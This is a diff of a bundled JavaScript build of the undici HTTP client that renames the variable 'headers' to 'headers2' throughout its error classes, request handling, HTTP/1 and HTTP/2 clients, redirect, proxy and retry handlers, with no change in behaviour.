@@ -416,7 +416,7 @@ var require_errors = __commonJS({
     };
     var kResponseStatusCodeError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_RESPONSE_STATUS_CODE");
     var ResponseStatusCodeError = class extends UndiciError {
-      constructor(message, statusCode, headers, body) {
+      constructor(message, statusCode, headers2, body) {
         super(message);
         this.name = "ResponseStatusCodeError";
         this.message = message || "Response Status Code Error";
@@ -424,7 +424,7 @@ var require_errors = __commonJS({
         this.body = body;
         this.status = statusCode;
         this.statusCode = statusCode;
-        this.headers = headers;
+        this.headers = headers2;
       }
       static [Symbol.hasInstance](instance) {
         return instance && instance[kResponseStatusCodeError] === true;
@@ -616,14 +616,14 @@ var require_errors = __commonJS({
     };
     var kRequestRetryError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_REQ_RETRY");
     var RequestRetryError = class extends UndiciError {
-      constructor(message, code2, { headers, data: data2 }) {
+      constructor(message, code2, { headers: headers2, data: data2 }) {
         super(message);
         this.name = "RequestRetryError";
         this.message = message || "Request retry error";
         this.code = "UND_ERR_REQ_RETRY";
         this.statusCode = code2;
         this.data = data2;
-        this.headers = headers;
+        this.headers = headers2;
       }
       static [Symbol.hasInstance](instance) {
         return instance && instance[kRequestRetryError] === true;
@@ -632,14 +632,14 @@ var require_errors = __commonJS({
     };
     var kResponseError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_RESPONSE");
     var ResponseError = class extends UndiciError {
-      constructor(message, code2, { headers, data: data2 }) {
+      constructor(message, code2, { headers: headers2, data: data2 }) {
         super(message);
         this.name = "ResponseError";
         this.message = message || "Response error";
         this.code = "UND_ERR_RESPONSE";
         this.statusCode = code2;
         this.data = data2;
-        this.headers = headers;
+        this.headers = headers2;
       }
       static [Symbol.hasInstance](instance) {
         return instance && instance[kResponseError] === true;
@@ -1171,19 +1171,19 @@ var require_util = __commonJS({
     function bufferToLowerCasedHeaderName(value) {
       return tree.lookup(value) ?? value.toString("latin1").toLowerCase();
     }
-    function parseHeaders(headers, obj) {
+    function parseHeaders(headers2, obj) {
       if (obj === void 0) obj = {};
-      for (let i = 0; i < headers.length; i += 2) {
-        const key = headerNameToString(headers[i]);
+      for (let i = 0; i < headers2.length; i += 2) {
+        const key = headerNameToString(headers2[i]);
         let val = obj[key];
         if (val) {
           if (typeof val === "string") {
             val = [val];
             obj[key] = val;
           }
-          val.push(headers[i + 1].toString("utf8"));
+          val.push(headers2[i + 1].toString("utf8"));
         } else {
-          const headersValue = headers[i + 1];
+          const headersValue = headers2[i + 1];
           if (typeof headersValue === "string") {
             obj[key] = headersValue;
           } else {
@@ -1196,17 +1196,17 @@ var require_util = __commonJS({
       }
       return obj;
     }
-    function parseRawHeaders(headers) {
-      const len = headers.length;
+    function parseRawHeaders(headers2) {
+      const len = headers2.length;
       const ret = new Array(len);
       let hasContentLength = false;
       let contentDispositionIdx = -1;
       let key;
       let val;
       let kLen = 0;
-      for (let n = 0; n < headers.length; n += 2) {
-        key = headers[n];
-        val = headers[n + 1];
+      for (let n = 0; n < headers2.length; n += 2) {
+        key = headers2[n];
+        val = headers2[n + 1];
         typeof key !== "string" && (key = key.toString());
         typeof val !== "string" && (val = val.toString("utf8"));
         kLen = key.length;
@@ -1682,7 +1682,7 @@ var require_request = __commonJS({
         path,
         method,
         body,
-        headers,
+        headers: headers2,
         query,
         idempotent,
         blocking,
@@ -1774,28 +1774,28 @@ var require_request = __commonJS({
         this.contentType = null;
         this.headers = [];
         this.expectContinue = expectContinue != null ? expectContinue : false;
-        if (Array.isArray(headers)) {
-          if (headers.length % 2 !== 0) {
+        if (Array.isArray(headers2)) {
+          if (headers2.length % 2 !== 0) {
             throw new InvalidArgumentError("headers array must be even");
           }
-          for (let i = 0; i < headers.length; i += 2) {
-            processHeader(this, headers[i], headers[i + 1]);
+          for (let i = 0; i < headers2.length; i += 2) {
+            processHeader(this, headers2[i], headers2[i + 1]);
           }
-        } else if (headers && typeof headers === "object") {
-          if (headers[Symbol.iterator]) {
-            for (const header of headers) {
+        } else if (headers2 && typeof headers2 === "object") {
+          if (headers2[Symbol.iterator]) {
+            for (const header of headers2) {
               if (!Array.isArray(header) || header.length !== 2) {
                 throw new InvalidArgumentError("headers must be in key-value pair format");
               }
               processHeader(this, header[0], header[1]);
             }
           } else {
-            const keys = Object.keys(headers);
+            const keys = Object.keys(headers2);
             for (let i = 0; i < keys.length; ++i) {
-              processHeader(this, keys[i], headers[keys[i]]);
+              processHeader(this, keys[i], headers2[keys[i]]);
             }
           }
-        } else if (headers != null) {
+        } else if (headers2 != null) {
           throw new InvalidArgumentError("headers must be an object or an array");
         }
         validateHandler(handler2, method, upgrade);
@@ -1839,14 +1839,14 @@ var require_request = __commonJS({
       onResponseStarted() {
         return this[kHandler].onResponseStarted?.();
       }
-      onHeaders(statusCode, headers, resume, statusText) {
+      onHeaders(statusCode, headers2, resume, statusText) {
         assert(!this.aborted);
         assert(!this.completed);
         if (channels.headers.hasSubscribers) {
-          channels.headers.publish({ request: this, response: { statusCode, headers, statusText } });
+          channels.headers.publish({ request: this, response: { statusCode, headers: headers2, statusText } });
         }
         try {
-          return this[kHandler].onHeaders(statusCode, headers, resume, statusText);
+          return this[kHandler].onHeaders(statusCode, headers2, resume, statusText);
         } catch (err) {
           this.abort(err);
         }
@@ -1867,14 +1867,14 @@ var require_request = __commonJS({
        * @param {import('node:stream').Duplex} socket
        * @param {string} [statusText]
        */
-      onUpgrade(statusCode, headers, socket, statusText = "") {
+      onUpgrade(statusCode, headers2, socket, statusText = "") {
         this.onFinally();
         assert(!this.aborted);
         assert(!this.completed);
         if (statusCode !== null) {
-          this.#publishUpgradeHeaders(statusCode, headers, statusText);
+          this.#publishUpgradeHeaders(statusCode, headers2, statusText);
         }
-        const result = this[kHandler].onUpgrade(statusCode, headers, socket);
+        const result = this[kHandler].onUpgrade(statusCode, headers2, socket);
         if (!this.aborted) {
           this.completed = true;
           if (statusCode !== null) {
@@ -1889,11 +1889,11 @@ var require_request = __commonJS({
        * @param {(headers: import('node:http2').IncomingHttpHeaders) => Buffer[]} parseHeaders
        * @param {string} [statusText]
        */
-      onUpgradeResponse(statusCode, headers, parseHeaders, statusText = "") {
+      onUpgradeResponse(statusCode, headers2, parseHeaders, statusText = "") {
         assert(!this.aborted);
         assert(this.completed);
         if (channels.headers.hasSubscribers) {
-          this.#publishUpgradeHeaders(statusCode, parseHeaders(headers), statusText);
+          this.#publishUpgradeHeaders(statusCode, parseHeaders(headers2), statusText);
         }
         this.#publishUpgradeTrailers();
       }
@@ -1912,9 +1912,9 @@ var require_request = __commonJS({
        * @param {Buffer[]} headers
        * @param {string} statusText
        */
-      #publishUpgradeHeaders(statusCode, headers, statusText) {
+      #publishUpgradeHeaders(statusCode, headers2, statusText) {
         if (channels.headers.hasSubscribers) {
-          channels.headers.publish({ request: this, response: { statusCode, headers, statusText } });
+          channels.headers.publish({ request: this, response: { statusCode, headers: headers2, statusText } });
         }
       }
       #publishUpgradeTrailers() {
@@ -4796,11 +4796,11 @@ var require_util2 = __commonJS({
     function createInflate(zlibOptions) {
       return new InflateStream(zlibOptions);
     }
-    function extractMimeType(headers) {
+    function extractMimeType(headers2) {
       let charset = null;
       let essence = null;
       let mimeType = null;
-      const values = getDecodeSplit("content-type", headers);
+      const values = getDecodeSplit("content-type", headers2);
       if (values === null) {
         return "failure";
       }
@@ -5713,8 +5713,8 @@ Content-Type: ${value.type || "application/octet-stream"}\r
       return JSON.parse(utf8DecodeBytes(bytes));
     }
     function bodyMimeType(requestOrResponse) {
-      const headers = requestOrResponse[kState].headersList;
-      const mimeType = extractMimeType(headers);
+      const headers2 = requestOrResponse[kState].headersList;
+      const mimeType = extractMimeType(headers2);
       if (mimeType === "failure") {
         return null;
       }
@@ -6071,12 +6071,12 @@ var require_client_h1 = __commonJS({
         }
       }
       onUpgrade(head) {
-        const { upgrade, client: client2, socket, headers, statusCode, statusText } = this;
+        const { upgrade, client: client2, socket, headers: headers2, statusCode, statusText } = this;
         assert(upgrade);
         assert(client2[kSocket] === socket);
         assert(!socket.destroyed);
         assert(!this.paused);
-        assert((headers.length & 1) === 0);
+        assert((headers2.length & 1) === 0);
         const request2 = client2[kQueue][client2[kRunningIdx]];
         assert(request2);
         assert(request2.upgrade || request2.method === "CONNECT");
@@ -6096,7 +6096,7 @@ var require_client_h1 = __commonJS({
         client2[kQueue][client2[kRunningIdx]++] = null;
         client2.emit("disconnect", client2[kUrl], [client2], new InformationalError("upgrade"));
         try {
-          request2.onUpgrade(statusCode, headers, socket, statusText);
+          request2.onUpgrade(statusCode, headers2, socket, statusText);
         } catch (error2) {
           util.errorRequest(client2, request2, error2);
           util.destroy(socket, error2);
@@ -6104,7 +6104,7 @@ var require_client_h1 = __commonJS({
         client2[kResume]();
       }
       onHeadersComplete(statusCode, upgrade, shouldKeepAlive) {
-        const { client: client2, socket, headers, statusText } = this;
+        const { client: client2, socket, headers: headers2, statusText } = this;
         if (socket.destroyed) {
           return -1;
         }
@@ -6169,7 +6169,7 @@ var require_client_h1 = __commonJS({
         } else {
           socket[kReset] = true;
         }
-        const pause2 = request2.onHeaders(statusCode, headers, this.resume, statusText) === false;
+        const pause2 = request2.onHeaders(statusCode, headers2, this.resume, statusText) === false;
         if (request2.aborted) {
           return -1;
         }
@@ -6209,7 +6209,7 @@ var require_client_h1 = __commonJS({
         }
       }
       onMessageComplete() {
-        const { client: client2, socket, statusCode, upgrade, headers, contentLength, bytesRead, shouldKeepAlive } = this;
+        const { client: client2, socket, statusCode, upgrade, headers: headers2, contentLength, bytesRead, shouldKeepAlive } = this;
         if (socket.destroyed && (!statusCode || shouldKeepAlive)) {
           return -1;
         }
@@ -6235,7 +6235,7 @@ var require_client_h1 = __commonJS({
           util.destroy(socket, new ResponseContentLengthMismatchError());
           return -1;
         }
-        request2.onComplete(headers);
+        request2.onComplete(headers2);
         client2[kQueue][client2[kRunningIdx]++] = null;
         socket[kSocketUsed] = true;
         if (socket[kWriting]) {
@@ -6458,7 +6458,7 @@ var require_client_h1 = __commonJS({
     }
     function writeH1(client2, request2) {
       const { method, path, host, upgrade, blocking, reset } = request2;
-      let { body, headers, contentLength } = request2;
+      let { body, headers: headers2, contentLength } = request2;
       const expectsPayload = method === "PUT" || method === "POST" || method === "PATCH" || method === "QUERY" || method === "PROPFIND" || method === "PROPPATCH";
       if (util.isFormDataLike(body)) {
         if (!extractBody) {
@@ -6466,7 +6466,7 @@ var require_client_h1 = __commonJS({
         }
         const [bodyStream, contentType] = extractBody(body);
         if (request2.contentType == null) {
-          headers.push("content-type", contentType);
+          headers2.push("content-type", contentType);
         }
         body = bodyStream.stream;
         contentLength = bodyStream.length;
@@ -6478,7 +6478,7 @@ var require_client_h1 = __commonJS({
             util.errorRequest(client2, request2, new InvalidArgumentError("invalid content-type header"));
             return false;
           }
-          headers.push("content-type", contentTypeValue);
+          headers2.push("content-type", contentTypeValue);
         }
       }
       if (body && typeof body.read === "function") {
@@ -6555,10 +6555,10 @@ upgrade: ${upgrade}\r
       } else {
         header += "connection: close\r\n";
       }
-      if (Array.isArray(headers)) {
-        for (let n = 0; n < headers.length; n += 2) {
-          const key = headers[n + 0];
-          const val = headers[n + 1];
+      if (Array.isArray(headers2)) {
+        for (let n = 0; n < headers2.length; n += 2) {
+          const key = headers2[n + 0];
+          const val = headers2[n + 1];
           if (Array.isArray(val)) {
             for (let i = 0; i < val.length; i++) {
               header += `${key}: ${val[i]}\r
@@ -6915,9 +6915,9 @@ var require_client_h2 = __commonJS({
         HTTP2_HEADER_STATUS
       }
     } = http2;
-    function parseH2Headers(headers) {
+    function parseH2Headers(headers2) {
       const result = [];
-      for (const [name, value] of Object.entries(headers)) {
+      for (const [name, value] of Object.entries(headers2)) {
         if (Array.isArray(value)) {
           for (const subvalue of value) {
             result.push(Buffer.from(name), Buffer.from(subvalue));
@@ -6928,8 +6928,8 @@ var require_client_h2 = __commonJS({
       }
       return result;
     }
-    function parseH2ResponseHeaders(headers) {
-      const { [HTTP2_HEADER_STATUS]: _statusCode, ...realHeaders } = headers;
+    function parseH2ResponseHeaders(headers2) {
+      const { [HTTP2_HEADER_STATUS]: _statusCode, ...realHeaders } = headers2;
       return parseH2Headers(realHeaders);
     }
     async function connectH2(client2, socket) {
@@ -7073,26 +7073,26 @@ var require_client_h2 = __commonJS({
         util.errorRequest(client2, request2, new Error("Upgrade not supported for H2"));
         return false;
       }
-      const headers = {};
+      const headers2 = {};
       for (let n = 0; n < reqHeaders.length; n += 2) {
         const key = reqHeaders[n + 0];
         const val = reqHeaders[n + 1];
         if (Array.isArray(val)) {
           for (let i = 0; i < val.length; i++) {
-            if (headers[key]) {
-              headers[key] += `,${val[i]}`;
+            if (headers2[key]) {
+              headers2[key] += `,${val[i]}`;
             } else {
-              headers[key] = val[i];
+              headers2[key] = val[i];
             }
           }
         } else {
-          headers[key] = val;
+          headers2[key] = val;
         }
       }
       let stream;
       const { hostname, port } = client2[kUrl];
-      headers[HTTP2_HEADER_AUTHORITY] = host || `${hostname}${port ? `:${port}` : ""}`;
-      headers[HTTP2_HEADER_METHOD] = method;
+      headers2[HTTP2_HEADER_AUTHORITY] = host || `${hostname}${port ? `:${port}` : ""}`;
+      headers2[HTTP2_HEADER_METHOD] = method;
       const abort = (error2) => {
         if (request2.aborted) {
           return;
@@ -7122,12 +7122,12 @@ var require_client_h2 = __commonJS({
       }
       if (method === "CONNECT") {
         session.ref();
-        stream = session.request(headers, { endStream: false, signal });
+        stream = session.request(headers2, { endStream: false, signal });
         let upgradeResponseFinished = false;
-        const onResponse = (headers2) => {
+        const onResponse = (headers3) => {
           upgradeResponseFinished = true;
           stream.off(errorMonitor, onUpgradeError);
-          request2.onUpgradeResponse(Number(headers2[HTTP2_HEADER_STATUS]), headers2, parseH2ResponseHeaders);
+          request2.onUpgradeResponse(Number(headers3[HTTP2_HEADER_STATUS]), headers3, parseH2ResponseHeaders);
         };
         const onUpgradeError = (error2) => {
           upgradeResponseFinished = true;
@@ -7164,8 +7164,8 @@ var require_client_h2 = __commonJS({
         });
         return true;
       }
-      headers[HTTP2_HEADER_PATH] = path;
-      headers[HTTP2_HEADER_SCHEME] = "https";
+      headers2[HTTP2_HEADER_PATH] = path;
+      headers2[HTTP2_HEADER_SCHEME] = "https";
       const expectsPayload = method === "PUT" || method === "POST" || method === "PATCH";
       if (body && typeof body.read === "function") {
         body.read(0);
@@ -7174,7 +7174,7 @@ var require_client_h2 = __commonJS({
       if (util.isFormDataLike(body)) {
         extractBody ??= require_body().extractBody;
         const [bodyStream, contentType] = extractBody(body);
-        headers["content-type"] = contentType;
+        headers2["content-type"] = contentType;
         body = bodyStream.stream;
         contentLength = bodyStream.length;
       }
@@ -7193,24 +7193,24 @@ var require_client_h2 = __commonJS({
       }
       if (contentLength != null) {
         assert(body, "no body must not have content length");
-        headers[HTTP2_HEADER_CONTENT_LENGTH] = `${contentLength}`;
+        headers2[HTTP2_HEADER_CONTENT_LENGTH] = `${contentLength}`;
       }
       session.ref();
       const shouldEndStream = method === "GET" || method === "HEAD" || body === null;
       if (expectContinue) {
-        headers[HTTP2_HEADER_EXPECT] = "100-continue";
-        stream = session.request(headers, { endStream: shouldEndStream, signal });
+        headers2[HTTP2_HEADER_EXPECT] = "100-continue";
+        stream = session.request(headers2, { endStream: shouldEndStream, signal });
         stream.once("continue", writeBodyH2);
       } else {
-        stream = session.request(headers, {
+        stream = session.request(headers2, {
           endStream: shouldEndStream,
           signal
         });
         writeBodyH2();
       }
       ++session[kOpenStreams];
-      stream.once("response", (headers2) => {
-        const { [HTTP2_HEADER_STATUS]: statusCode, ...realHeaders } = headers2;
+      stream.once("response", (headers3) => {
+        const { [HTTP2_HEADER_STATUS]: statusCode, ...realHeaders } = headers3;
         request2.onResponseStarted();
         if (request2.aborted) {
           const err = new RequestAbortedError();
@@ -7494,14 +7494,14 @@ var require_redirect_handler = __commonJS({
         this.abort = abort;
         this.handler.onConnect(abort, { history: this.history });
       }
-      onUpgrade(statusCode, headers, socket) {
-        this.handler.onUpgrade(statusCode, headers, socket);
+      onUpgrade(statusCode, headers2, socket) {
+        this.handler.onUpgrade(statusCode, headers2, socket);
       }
       onError(error2) {
         this.handler.onError(error2);
       }
-      onHeaders(statusCode, headers, resume, statusText) {
-        this.location = this.history.length >= this.maxRedirections || util.isDisturbed(this.opts.body) ? null : parseLocation(statusCode, headers);
+      onHeaders(statusCode, headers2, resume, statusText) {
+        this.location = this.history.length >= this.maxRedirections || util.isDisturbed(this.opts.body) ? null : parseLocation(statusCode, headers2);
         if (this.opts.throwOnMaxRedirect && this.history.length >= this.maxRedirections) {
           if (this.request) {
             this.request.abort(new Error("max redirects"));
@@ -7514,7 +7514,7 @@ var require_redirect_handler = __commonJS({
           this.history.push(new URL(this.opts.path, this.opts.origin));
         }
         if (!this.location) {
-          return this.handler.onHeaders(statusCode, headers, resume, statusText);
+          return this.handler.onHeaders(statusCode, headers2, resume, statusText);
         }
         const { origin, pathname, search: search2 } = util.parseURL(new URL(this.location, this.opts.origin && new URL(this.opts.path, this.opts.origin)));
         const path = search2 ? `${pathname}${search2}` : pathname;
@@ -7549,13 +7549,13 @@ var require_redirect_handler = __commonJS({
         }
       }
     };
-    function parseLocation(statusCode, headers) {
+    function parseLocation(statusCode, headers2) {
       if (redirectableStatusCodes.indexOf(statusCode) === -1) {
         return null;
       }
-      for (let i = 0; i < headers.length; i += 2) {
-        if (headers[i].length === 8 && util.headerNameToString(headers[i]) === "location") {
-          return headers[i + 1];
+      for (let i = 0; i < headers2.length; i += 2) {
+        if (headers2[i].length === 8 && util.headerNameToString(headers2[i]) === "location") {
+          return headers2[i + 1];
         }
       }
     }
@@ -7572,22 +7572,22 @@ var require_redirect_handler = __commonJS({
       }
       return false;
     }
-    function cleanRequestHeaders(headers, removeContent, unknownOrigin) {
+    function cleanRequestHeaders(headers2, removeContent, unknownOrigin) {
       const ret = [];
-      if (Array.isArray(headers)) {
-        for (let i = 0; i < headers.length; i += 2) {
-          if (!shouldRemoveHeader(headers[i], removeContent, unknownOrigin)) {
-            ret.push(headers[i], headers[i + 1]);
+      if (Array.isArray(headers2)) {
+        for (let i = 0; i < headers2.length; i += 2) {
+          if (!shouldRemoveHeader(headers2[i], removeContent, unknownOrigin)) {
+            ret.push(headers2[i], headers2[i + 1]);
           }
         }
-      } else if (headers && typeof headers === "object") {
-        for (const key of Object.keys(headers)) {
+      } else if (headers2 && typeof headers2 === "object") {
+        for (const key of Object.keys(headers2)) {
           if (!shouldRemoveHeader(key, removeContent, unknownOrigin)) {
-            ret.push(key, headers[key]);
+            ret.push(key, headers2[key]);
           }
         }
       } else {
-        assert(headers == null, "headers must be an object or an array");
+        assert(headers2 == null, "headers must be an object or an array");
       }
       return ret;
     }
@@ -8733,12 +8733,12 @@ var require_proxy_agent = __commonJS({
     }
     var Http1ProxyWrapper = class extends DispatcherBase {
       #client;
-      constructor(proxyUrl, { headers = {}, connect, factory }) {
+      constructor(proxyUrl, { headers: headers2 = {}, connect, factory }) {
         super();
         if (!proxyUrl) {
           throw new InvalidArgumentError("Proxy URL is mandatory");
         }
-        this[kProxyHeaders] = headers;
+        this[kProxyHeaders] = headers2;
         if (factory) {
           this.#client = factory(proxyUrl, { connect });
         } else {
@@ -8759,14 +8759,14 @@ var require_proxy_agent = __commonJS({
         const {
           origin,
           path = "/",
-          headers = {}
+          headers: headers2 = {}
         } = opts;
         opts.path = origin + path;
-        if (!("host" in headers) && !("Host" in headers)) {
+        if (!("host" in headers2) && !("Host" in headers2)) {
           const { host } = new URL2(origin);
-          headers.host = host;
+          headers2.host = host;
         }
-        opts.headers = { ...this[kProxyHeaders], ...headers };
+        opts.headers = { ...this[kProxyHeaders], ...headers2 };
         return this.#client[kDispatch](opts, handler2);
       }
       async [kClose]() {
@@ -8865,16 +8865,16 @@ var require_proxy_agent = __commonJS({
         });
       }
       dispatch(opts, handler2) {
-        const headers = buildHeaders(opts.headers);
-        throwIfProxyAuthIsSent(headers);
-        if (headers && !("host" in headers) && !("Host" in headers)) {
+        const headers2 = buildHeaders(opts.headers);
+        throwIfProxyAuthIsSent(headers2);
+        if (headers2 && !("host" in headers2) && !("Host" in headers2)) {
           const { host } = new URL2(opts.origin);
-          headers.host = host;
+          headers2.host = host;
         }
         return this[kAgent].dispatch(
           {
             ...opts,
-            headers
+            headers: headers2
           },
           handler2
         );
@@ -8901,18 +8901,18 @@ var require_proxy_agent = __commonJS({
         await this[kClient].destroy();
       }
     };
-    function buildHeaders(headers) {
-      if (Array.isArray(headers)) {
+    function buildHeaders(headers2) {
+      if (Array.isArray(headers2)) {
         const headersPair = {};
-        for (let i = 0; i < headers.length; i += 2) {
-          headersPair[headers[i]] = headers[i + 1];
+        for (let i = 0; i < headers2.length; i += 2) {
+          headersPair[headers2[i]] = headers2[i + 1];
         }
         return headersPair;
       }
-      return headers;
+      return headers2;
     }
-    function throwIfProxyAuthIsSent(headers) {
-      const existProxyAuth = headers && Object.keys(headers).find((key) => key.toLowerCase() === "proxy-authorization");
+    function throwIfProxyAuthIsSent(headers2) {
+      const existProxyAuth = headers2 && Object.keys(headers2).find((key) => key.toLowerCase() === "proxy-authorization");
       if (existProxyAuth) {
         throw new InvalidArgumentError("Proxy-Authorization should be sent in ProxyAgent constructor");
       }
@@ -9074,8 +9074,8 @@ var require_retry_handler = __commonJS({
       const current = Date.now();
       return new Date(retryAfter).getTime() - current;
     }
-    function validatePartialResponseContentLength(headers, range2, statusCode, retryCount) {
-      const contentLength = headers["content-length"];
+    function validatePartialResponseContentLength(headers2, range2, statusCode, retryCount) {
+      const contentLength = headers2["content-length"];
       if (contentLength == null) {
         return null;
       }
@@ -9086,7 +9086,7 @@ var require_retry_handler = __commonJS({
       const expectedLength = range2.end - range2.start + 1;
       if (!Number.isFinite(length) || length !== expectedLength) {
         return new RequestRetryError("Content-Length mismatch", statusCode, {
-          headers,
+          headers: headers2,
           data: { count: retryCount }
         });
       }
@@ -9155,9 +9155,9 @@ var require_retry_handler = __commonJS({
           }
         });
       }
-      checkpointResponseEnd(headers, resume) {
+      checkpointResponseEnd(headers2, resume) {
         if (this.end == null && this.opts.method !== "HEAD") {
-          const contentLength = headers["content-length"];
+          const contentLength = headers2["content-length"];
           this.end = contentLength != null ? Number(contentLength) - 1 : null;
           assert(
             this.end == null || Number.isFinite(this.end),
@@ -9171,9 +9171,9 @@ var require_retry_handler = __commonJS({
           this.handler.onRequestSent();
         }
       }
-      onUpgrade(statusCode, headers, socket) {
+      onUpgrade(statusCode, headers2, socket) {
         if (this.handler.onUpgrade) {
-          this.handler.onUpgrade(statusCode, headers, socket);
+          this.handler.onUpgrade(statusCode, headers2, socket);
         }
       }
       onConnect(abort) {
@@ -9187,7 +9187,7 @@ var require_retry_handler = __commonJS({
         if (this.handler.onBodySent) return this.handler.onBodySent(chunk);
       }
       static [kRetryHandlerDefaultRetry](err, { state, opts }, cb) {
-        const { statusCode, code: code2, headers } = err;
+        const { statusCode, code: code2, headers: headers2 } = err;
         const { method, retryOptions } = opts;
         const {
           maxRetries,
@@ -9215,7 +9215,7 @@ var require_retry_handler = __commonJS({
           cb(err);
           return;
         }
-        let retryAfterHeader = headers?.["retry-after"];
+        let retryAfterHeader = headers2?.["retry-after"];
         if (retryAfterHeader) {
           retryAfterHeader = Number(retryAfterHeader);
           retryAfterHeader = Number.isNaN(retryAfterHeader) ? calculateRetryAfterHeader(retryAfterHeader) : retryAfterHeader * 1e3;
@@ -9224,12 +9224,12 @@ var require_retry_handler = __commonJS({
         setTimeout(() => cb(null), retryTimeout);
       }
       onHeaders(statusCode, rawHeaders, resume, statusMessage) {
-        const headers = parseHeaders(rawHeaders);
+        const headers2 = parseHeaders(rawHeaders);
         this.retryCount += 1;
         if (statusCode >= 300) {
           if (!this.headersSent && this.retryOpts.statusCodes.includes(statusCode) === false) {
             this.headersSent = true;
-            this.checkpointResponseEnd(headers, resume);
+            this.checkpointResponseEnd(headers2, resume);
             return this.handler.onHeaders(
               statusCode,
               rawHeaders,
@@ -9239,7 +9239,7 @@ var require_retry_handler = __commonJS({
           } else {
             this.abort(
               new RequestRetryError("Request failed", statusCode, {
-                headers,
+                headers: headers2,
                 data: {
                   count: this.retryCount
                 }
@@ -9253,32 +9253,32 @@ var require_retry_handler = __commonJS({
           if (statusCode !== 206 && (this.start > 0 || statusCode !== 200)) {
             this.abort(
               new RequestRetryError("server does not support the range header and the payload was partially consumed", statusCode, {
-                headers,
+                headers: headers2,
                 data: { count: this.retryCount }
               })
             );
             return false;
           }
-          const contentRange = parseRangeHeader(headers["content-range"]);
+          const contentRange = parseRangeHeader(headers2["content-range"]);
           if (!contentRange) {
             this.abort(
               new RequestRetryError("Content-Range mismatch", statusCode, {
-                headers,
+                headers: headers2,
                 data: { count: this.retryCount }
               })
             );
             return false;
           }
-          if (this.etag != null && this.etag !== headers.etag) {
+          if (this.etag != null && this.etag !== headers2.etag) {
             this.abort(
               new RequestRetryError("ETag mismatch", statusCode, {
-                headers,
+                headers: headers2,
                 data: { count: this.retryCount }
               })
             );
             return false;
           }
-          const contentLengthError = validatePartialResponseContentLength(headers, contentRange, statusCode, this.retryCount);
+          const contentLengthError = validatePartialResponseContentLength(headers2, contentRange, statusCode, this.retryCount);
           if (contentLengthError != null) {
             this.abort(contentLengthError);
             return false;
@@ -9287,7 +9287,7 @@ var require_retry_handler = __commonJS({
           if (this.start !== start || this.end != null && this.end !== end) {
             this.abort(
               new RequestRetryError("Content-Range mismatch", statusCode, {
-                headers,
+                headers: headers2,
                 data: { count: this.retryCount }
               })
             );
@@ -9298,7 +9298,7 @@ var require_retry_handler = __commonJS({
         }
         if (this.end == null) {
           if (statusCode === 206) {
-            const range2 = parseRangeHeader(headers["content-range"]);
+            const range2 = parseRangeHeader(headers2["content-range"]);
             if (range2 == null) {
               this.headersSent = true;
               return this.handler.onHeaders(
@@ -9308,7 +9308,7 @@ var require_retry_handler = __commonJS({
                 statusMessage
               );
             }
-            const contentLengthError = validatePartialResponseContentLength(headers, range2, statusCode, this.retryCount);
+            const contentLengthError = validatePartialResponseContentLength(headers2, range2, statusCode, this.retryCount);
             if (contentLengthError != null) {
               this.abort(contentLengthError);
               return false;
@@ -9323,7 +9323,7 @@ var require_retry_handler = __commonJS({
             this.end = end;
           }
           if (this.end == null) {
-            const contentLength = headers["content-length"];
+            const contentLength = headers2["content-length"];
             this.end = contentLength != null ? Number(contentLength) - 1 : null;
           }
           assert(Number.isFinite(this.start));
@@ -9333,7 +9333,7 @@ var require_retry_handler = __commonJS({
           );
           this.resume = resume;
           this.headersSent = true;
-          this.etag = headers.etag != null ? headers.etag : null;
+          this.etag = headers2.etag != null ? headers2.etag : null;
           if (this.etag != null && this.etag.startsWith("W/")) {
             this.etag = null;
           }
@@ -9345,7 +9345,7 @@ var require_retry_handler = __commonJS({
           );
         }
         const err = new RequestRetryError("Request failed", statusCode, {
-          headers,
+          headers: headers2,
           data: { count: this.retryCount }
         });
         this.abort(err);
@@ -9381,15 +9381,15 @@ var require_retry_handler = __commonJS({
             return this.handler.onError(err2);
           }
           if (this.start !== 0) {
-            const headers = { range: `bytes=${this.start}-${this.end ?? ""}` };
+            const headers2 = { range: `bytes=${this.start}-${this.end ?? ""}` };
             if (this.etag != null) {
-              headers["if-match"] = this.etag;
+              headers2["if-match"] = this.etag;
             }
             this.opts = {
               ...this.opts,
               headers: {
                 ...this.opts.headers,
-                ...headers
+                ...headers2
               }
             };
           }
@@ -9743,7 +9743,7 @@ var require_util3 = __commonJS({
     } = require_errors();
     var { chunksDecode } = require_readable();
     var CHUNK_LIMIT = 128 * 1024;
-    async function getResolveErrorBodyCallback({ callback, body, contentType, statusCode, statusMessage, headers }) {
+    async function getResolveErrorBodyCallback({ callback, body, contentType, statusCode, statusMessage, headers: headers2 }) {
       assert(body);
       let chunks = [];
       let length = 0;
@@ -9763,7 +9763,7 @@ var require_util3 = __commonJS({
       }
       const message = `Response status code ${statusCode}${statusMessage ? `: ${statusMessage}` : ""}`;
       if (statusCode === 204 || !contentType || !length) {
-        queueMicrotask(() => callback(new ResponseStatusCodeError(message, statusCode, headers)));
+        queueMicrotask(() => callback(new ResponseStatusCodeError(message, statusCode, headers2)));
         return;
       }
       const stackTraceLimit = Error.stackTraceLimit;
@@ -9779,7 +9779,7 @@ var require_util3 = __commonJS({
       } finally {
         Error.stackTraceLimit = stackTraceLimit;
       }
-      queueMicrotask(() => callback(new ResponseStatusCodeError(message, statusCode, headers, payload)));
+      queueMicrotask(() => callback(new ResponseStatusCodeError(message, statusCode, headers2, payload)));
     }
     var isContentTypeApplicationJson = (contentType) => {
       return contentType.length > 15 && contentType[11] === "/" && contentType[0] === "a" && contentType[1] === "p" && contentType[2] === "p" && contentType[3] === "l" && contentType[4] === "i" && contentType[5] === "c" && contentType[6] === "a" && contentType[7] === "t" && contentType[8] === "i" && contentType[9] === "o" && contentType[10] === "n" && contentType[12] === "j" && contentType[13] === "s" && contentType[14] === "o" && contentType[15] === "n";
@@ -9885,14 +9885,14 @@ var require_api_request = __commonJS({
       }
       onHeaders(statusCode, rawHeaders, resume, statusMessage) {
         const { callback, opaque, abort, context: context3, responseHeaders, highWaterMark } = this;
-        const headers = responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
+        const headers2 = responseHeaders === "raw" ? util.parseRawHeaders(rawHeaders) : util.parseHeaders(rawHeaders);
         if (statusCode < 200) {
           if (this.onInfo) {
-            this.onInfo({ statusCode, headers });
+            this.onInfo({ statusCode, headers: headers2 });
           }
           return;
         }
-        const parsedHeaders = responseHeaders === "raw" ? util.parseHeaders(rawHeaders) : headers;
